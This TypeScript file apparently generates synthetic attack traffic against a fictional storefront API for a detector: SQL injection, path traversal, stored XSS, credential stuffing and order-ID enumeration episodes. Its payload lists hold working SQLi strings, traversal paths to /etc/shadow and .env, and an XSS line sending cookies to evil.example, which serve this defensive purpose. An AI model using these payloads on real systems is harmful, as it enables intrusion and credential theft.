import { jsonString } from './json-text.js';
import { endpointOf, loginExchange, orderExists, orderJson, shopperRequest, STOREFRONT_ENDPOINTS, STOREFRONT_HEADERS } from './apps/storefront.js';
import { MOBILE_ENDPOINTS, appRequest, verboseError } from './apps/mobile.js';
import { jsonBody, NO_QUERY, problemBody, response, type Ctx, type EndpointDef, type Exchange, type Headers } from './kit.js';
import { ORDER_BASE, ORDERS_PER_USER } from './pools.js';
import type { AttackKind } from './labels.js';

/**
 * Attack episodes: short runs of consecutive malicious requests from one actor. Each step yields one
 * exchange; the generator gives the episode its own tight clock, so a burst looks like a burst whatever
 * the overall event rate is.
 */
export interface Episode {
  kind: AttackKind;
  id: number;
  remaining: number;
  /** Mean gap between two requests of the episode, in ms. */
  gapMs: number;
  step(ctx: Ctx): Exchange;
}

const search = endpointOf(STOREFRONT_ENDPOINTS, 'GET', '/v1/search');
const products = endpointOf(STOREFRONT_ENDPOINTS, 'GET', '/v1/products');
const product = endpointOf(STOREFRONT_ENDPOINTS, 'GET', '/v1/products/{id}');
const category = endpointOf(STOREFRONT_ENDPOINTS, 'GET', '/v1/categories/{slug}');
const reviews = endpointOf(STOREFRONT_ENDPOINTS, 'POST', '/v1/products/{id}/reviews');
const login = endpointOf(STOREFRONT_ENDPOINTS, 'POST', '/v1/auth/login');
const order = endpointOf(STOREFRONT_ENDPOINTS, 'GET', '/v1/orders/{orderId}');
const mobileStock = endpointOf(MOBILE_ENDPOINTS, 'GET', '/api/v3/stores/{storeId}/stock');

const SQLI = [
  "' OR '1'='1' -- ",
  "tents' UNION SELECT username,password_hash,NULL FROM users--",
  "1; DROP TABLE orders;--",
  "tents' AND SLEEP(5)-- -",
  '" OR 1=1#',
  "') OR ('a'='a",
];
const TRAVERSAL_PRODUCT = ['..%2F..%2F..%2Fetc%2Fpasswd', '..%252f..%252f..%252fetc%252fpasswd', '....//....//....//etc/passwd'];
const TRAVERSAL_CATEGORY = ['..%2F..%2F..%2F..%2Fwindows%2Fwin.ini', '%2e%2e%2f%2e%2e%2fapp%2f.env'];
const XSS = [
  "<script>fetch('https://evil.example/c?'+document.cookie)</script>",
  '<img src=x onerror=alert(document.domain)>',
  '"><svg/onload=alert(1)>',
  '<iframe src="javascript:alert(`xss`)"></iframe>',
];
const COMMON_PASSWORDS = ['Password1!', 'qwerty123', 'Summer2025!', 'letmein', '123456789', 'iloveyou', 'Welcome1', 'Northwind1'];
const ATTACK_UAS = ['sqlmap/1.8.11#stable (https://sqlmap.org)', 'python-requests/2.31.0', 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))'];

/** Scripts send their own user agent and, unlike browsers, no Origin. */
function withUa(req: Exchange['request'], ua: string): Exchange['request'] {
  const headers: Headers = { ...(req.headers as Headers), 'user-agent': ua };
  if (!ua.startsWith('Mozilla/5.0 (') || ua.includes('compatible;')) delete headers.origin;
  req.headers = headers;
  return req;
}

function problem(ctx: Ctx, status: number): Exchange['response'] {
  return response(ctx, STOREFRONT_HEADERS, status, problemBody(status, ctx.requestId()));
}

function anon(ctx: Ctx, ep: EndpointDef, path: string, query: Record<string, string>, ip: string, ua: string, body?: ReturnType<typeof jsonBody>) {
  return withUa(shopperRequest(ctx, ep, path, query, -1, body, ip), ua);
}

export function startEpisode(ctx: Ctx, kind: AttackKind, id: number): Episode {
  const { rng, pools } = ctx;
  const ip = rng.pick(pools.publicIps);
  switch (kind) {
    case 'sqli': {
      const ua = rng.chance(0.6) ? ATTACK_UAS[0]! : rng.pick(pools.browserUas);
      return {
        kind, id, remaining: rng.range(2, 5), gapMs: 1500,
        step(c) {
          const payload = c.rng.pick(SQLI);
          const v = c.rng.int(3);
          if (v === 0) {
            const req = anon(c, search, '/v1/search', { q: payload, page: '1' }, ip, ua);
            return { request: req, response: c.rng.chance(0.3) ? problem(c, 500) : problem(c, 400) };
          }
          if (v === 1) {
            const req = anon(c, products, '/v1/products', { category: payload, page: '1', limit: '24' }, ip, ua);
            return { request: req, response: problem(c, 400) };
          }
          return loginExchange(c, login, -1, `admin@northwind.example${payload}`, 'x', false, ip, ua);
        },
      };
    }
    case 'path-traversal': {
      const ua = rng.pick(ATTACK_UAS);
      return {
        kind, id, remaining: rng.range(2, 4), gapMs: 800,
        step(c) {
          const v = c.rng.int(3);
          if (v === 0) {
            const req = anon(c, product, `/v1/products/${c.rng.pick(TRAVERSAL_PRODUCT)}`, NO_QUERY, ip, ua);
            return { request: req, response: problem(c, 404) };
          }
          if (v === 1) {
            const req = anon(c, category, `/v1/categories/${c.rng.pick(TRAVERSAL_CATEGORY)}`, NO_QUERY, ip, ua);
            return { request: req, response: problem(c, 404) };
          }
          const user = pools.userZipf.sample(c.rng);
          const req = withUa(appRequest(c, mobileStock, '/api/v3/stores/..%2F..%2F..%2Fetc%2Fshadow/stock', { sku: '../../../../proc/self/environ' }, user), ua);
          req.clientAddress = ip;
          return { request: req, response: verboseError(c, req.path ?? '/') };
        },
      };
    }
    case 'xss': {
      const attacker = pools.userZipf.sample(rng);
      return {
        kind, id, remaining: rng.range(1, 2), gapMs: 20_000,
        step(c) {
          const p = pools.products[pools.productZipf.sample(c.rng)]!;
          const payload = c.rng.pick(XSS);
          const body = jsonBody(`{"rating":5,"title":${jsonString(c.rng.chance(0.5) ? payload : 'Great jacket')},"body":${jsonString(`Love it ${payload}`)}}`);
          const req = shopperRequest(c, reviews, `/v1/products/${p.id}/reviews`, NO_QUERY, attacker, body, ip);
          return { request: req, response: response(c, STOREFRONT_HEADERS, 201, jsonBody(`{"id":${p.id * 10 + 8},"status":"pending_moderation"}`)) };
        },
      };
    }
    case 'credential-stuffing': {
      const ua = rng.chance(0.5) ? 'python-requests/2.31.0' : rng.pick(pools.browserUas);
      return {
        kind, id, remaining: rng.range(20, 40), gapMs: 350,
        step(c) {
          const real = c.rng.chance(0.7);
          const user = real ? pools.userZipf.sample(c.rng) : -1;
          const email = user >= 0 ? pools.users[user]!.email : `${c.rng.pick(['mike', 'sarah', 'jdoe', 'info', 'admin'])}${c.rng.digits(3)}@example.com`;
          // A few reused passwords work: the account takeovers the detector should surface.
          const ok = user >= 0 && c.rng.chance(0.03);
          return loginExchange(c, login, user, email, c.rng.pick(COMMON_PASSWORDS), ok, ip, ua);
        },
      };
    }
    case 'bola': {
      const attacker = pools.userZipf.sample(rng);
      let next = ORDER_BASE + attacker * ORDERS_PER_USER;
      const dir = rng.chance(0.8) ? 1 : -1;
      return {
        kind, id, remaining: rng.range(12, 25), gapMs: 700,
        step(c) {
          const orderId = next;
          next += dir;
          const req = shopperRequest(c, order, `/v1/orders/${orderId}`, NO_QUERY, attacker, undefined, ip);
          // The flaw: the API checks the token, not whose order it is.
          const res = orderExists(c, orderId) ? response(c, STOREFRONT_HEADERS, 200, jsonBody(orderJson(c, orderId))) : problem(c, 404);
          return { request: req, response: res };
        },
      };
    }
  }
}
